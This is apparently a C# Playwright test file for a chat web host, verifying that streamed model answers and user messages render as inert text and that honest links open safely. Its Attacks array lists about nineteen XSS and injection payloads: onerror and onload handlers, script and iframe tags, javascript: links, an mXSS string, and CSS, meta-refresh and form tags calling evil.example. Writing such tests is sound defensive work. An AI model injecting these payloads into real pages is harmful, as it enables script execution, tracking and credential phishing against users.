using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace TenantLora.ChatHost.Tests.Browser;

/// <summary>Whatever a model writes is text: on the page it runs nothing, fetches nothing and leads nowhere by itself.</summary>
[Collection(OneBrowser.Name)]
public sealed class HostileAnswerTests(Chromium chromium)
{
    private const string Marker = "The end of it.";

    // Each tries to set window.__xss, to open something, or to fetch from a host that must never be asked.
    private static readonly string[] Attacks =
    [
        "<img src=x onerror=\"window.__xss=1\">",
        "<img src=\"https://evil.example/pixel.png\">",
        "![tracked](https://evil.example/markdown.png)",
        "<script>window.__xss=2</script>",
        "<script src=\"https://evil.example/script.js\"></script>",
        "<svg onload=\"window.__xss=3\"><script>window.__xss=4</script></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__xss=5&gt;\">",
        "<iframe src=\"https://evil.example/frame\" srcdoc=\"<script>parent.__xss=6</script>\"></iframe>",
        "<a href=\"javascript:window.__xss=7\">click</a> [click](javascript:window.__xss=8) [click](data:text/html,<script>window.__xss=9</script>)",
        "[click](java\tscript:window.__xss=10) <a href=\"&#106;avascript:window.__xss=11\">click</a>",
        "<style>@import url(https://evil.example/style.css); body { background: url(https://evil.example/background) }</style>",
        "<p style=\"background:url(https://evil.example/inline)\">styled</p>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/link.css\"><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<form action=\"https://evil.example/\"><input name=\"key\" autofocus onfocus=\"window.__xss=12\"><button>Sign in</button></form>",
        "<video src=\"https://evil.example/video\" onerror=\"window.__xss=13\"></video><object data=\"https://evil.example/object\"></object><embed src=\"https://evil.example/embed\">",
        "<details open ontoggle=\"window.__xss=14\">more</details><div id=\"composer\" data-testid=\"send\">clobbered</div><form name=\"body\"></form>",
        "```html\n<img src=x onerror=\"window.__xss=15\">\n```",
        "```\"><img src=x onerror=window.__xss=16>\ncode\n```",
        "`<img src=x onerror=window.__xss=17>`",
    ];

    [Fact]
    public async Task Nothing_that_a_model_writes_runs_or_fetches()
    {
        var text = string.Join("\n\n", Attacks) + "\n\n" + Marker;
        var dictation = new Dictation();
        await using var host = await TestHost.StartAsync(dictation.Runtime);
        await using var tab = await chromium.OpenAsync(host.Url);
        await tab.SignInAsync("harbor");
        await tab.AskAsync(string.Join(' ', Attacks)); // and so is what a person writes
        dictation.Begin();
        for (var at = 0; at < text.Length; at += 7)
        {
            dictation.Say(text[at..Math.Min(at + 7, text.Length)]); // cut anywhere, also inside tags
            if (at % 28 == 0) await HarmlessAsync(tab);
        }
        dictation.End(text.Length);
        await Expect(tab.Answers).ToHaveAttributeAsync("data-state", "complete");
        await Expect(tab.AnswerText()).ToContainTextAsync(Marker);
        await HarmlessAsync(tab);
        await tab.ShootAsync("hostile");
        foreach (var link in await tab.AnswerText().GetByText("click").AllAsync()) await link.ClickAsync(new() { Force = true });
        await HarmlessAsync(tab);

        await tab.Page.ReloadAsync(); // from what the browser kept, its title in the list of conversations included
        await tab.OnlineAsync();
        await Expect(tab.AnswerText()).ToContainTextAsync(Marker);
        await HarmlessAsync(tab);
        Assert.Equal(host.Url.Authority, new Uri(tab.Page.Url).Authority);
    }

    [Fact]
    public async Task An_honest_link_opens_beside_and_tells_nothing()
    {
        await using var host = await TestHost.StartAsync(new FakeRuntime { Answer = (_, token) => FakeRuntime.Says(token, "See [the map](https://example.com/map).") });
        await using var tab = await chromium.OpenAsync(host.Url);
        await tab.SignInAsync("harbor");
        await tab.AskAsync("Where?");
        var link = tab.AnswerText().GetByRole(AriaRole.Link, new() { Name = "the map" });
        await Expect(link).ToHaveAttributeAsync("href", "https://example.com/map");
        await Expect(link).ToHaveAttributeAsync("target", "_blank");
        await Expect(link).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
        Assert.Empty(tab.Complaints);
    }

    private static async Task HarmlessAsync(Tab tab)
    {
        Assert.True(await tab.Page.EvaluateAsync<bool>("window.__xss === undefined"));
        Assert.Equal("", await tab.Page.EvaluateAsync<string>("""
            [...document.querySelectorAll('[role=log] *')].filter(e =>
              e.matches('img, script, iframe, style, link, base, meta, form:not(.edit), video, audio, object, embed, math, [style], [id="composer"], [data-testid="send"]')
              || [...e.attributes].some(a => a.name.startsWith('on'))
              || (e.hasAttribute('href') && !/^https?:|^mailto:|^tel:/.test(e.getAttribute('href')))).map(e => e.outerHTML).join('\n')
            """));
        Assert.Empty(tab.Complaints);
    }
}
